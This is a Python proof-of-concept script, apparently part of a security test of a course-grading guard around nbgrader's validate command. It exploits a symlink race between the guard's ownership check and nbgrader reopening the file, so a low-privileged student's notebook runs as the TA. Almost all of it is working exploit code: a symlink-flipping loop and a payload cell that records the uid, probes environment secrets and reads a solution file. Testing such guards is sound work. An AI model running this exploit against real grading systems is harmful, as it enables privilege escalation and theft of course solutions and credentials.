"""a08: round 39/40's Validate guard (grader/formgrader_guard.py) resolves `filename` with realpath, checks the folders
and the owner of what it resolved to, then calls nbgrader's Validator with `filename` itself, which is opened again.
A student (uid 65534 here) who controls a folder the TA validates a notebook in keeps swapping a symlink there between a
notebook the TA owns (the release's, root's) and her own; when the check sees the first and nbgrader opens the second,
her notebook runs in a plain kernel as the TA (a07: root, the canaries in its environment, the course visible)."""
import os, subprocess, sys, time, json
sys.path.insert(0, (__import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", ".."))))
import nbformat
d = "/tmp/attack44-root-a08"; share = f"{d}/share"
subprocess.run(["rm", "-rf", d]); os.makedirs(share)
os.chown(share, 65534, 65534)
evil = nbformat.v4.new_notebook()
evil.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
evil.cells = [nbformat.v4.new_code_cell(
    "import os, json\nopen('/tmp/attack44-root-a08/PWNED.json','w').write(json.dumps({'uid': os.getuid(), "
    "'canary': 'AKIASECRET' in str(os.environ), 'read_solution': open('CLONE/source/ps1_memory/ps1_memory.ipynb').read()[:40]}))")]
nbformat.write(evil, f"{share}/mine.ipynb"); os.chown(f"{share}/mine.ipynb", 65534, 65534)
TA_OWNED = "CLONE/release/ps1_memory/ps1_memory.ipynb"  # root's, not in a hand-in folder
FLIP = f"""
import os
os.setgid(65534); os.setuid(65534)
a, b = {TA_OWNED!r}, {share + '/mine.ipynb'!r}
while True:
    for t in (a, b):
        try:
            os.symlink(t, {share + '/tmp'!r}); os.rename({share + '/tmp'!r}, {share + '/nb.ipynb'!r})
        except OSError:
            pass
"""
flipper = subprocess.Popen([sys.executable, "-c", FLIP])
env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
try:
    for attempt in range(1, 9):
        t = time.time()
        r = subprocess.run(["CLONE/.venv/bin/nbgrader", "validate", f"{share}/nb.ipynb"], cwd="/tmp",
                           env=env, capture_output=True, text=True, timeout=120)
        refused = "not validating" in r.stdout + r.stderr
        print(f"attempt {attempt}: rc {r.returncode}, refused by the guard: {refused}, {time.time() - t:.1f} s", flush=True)
        if os.path.exists(f"{d}/PWNED.json"):
            print("PWNED:", open(f"{d}/PWNED.json").read()); break
finally:
    flipper.kill(); flipper.wait()
print("stat of PWNED:", os.stat(f"{d}/PWNED.json").st_uid if os.path.exists(f"{d}/PWNED.json") else None)
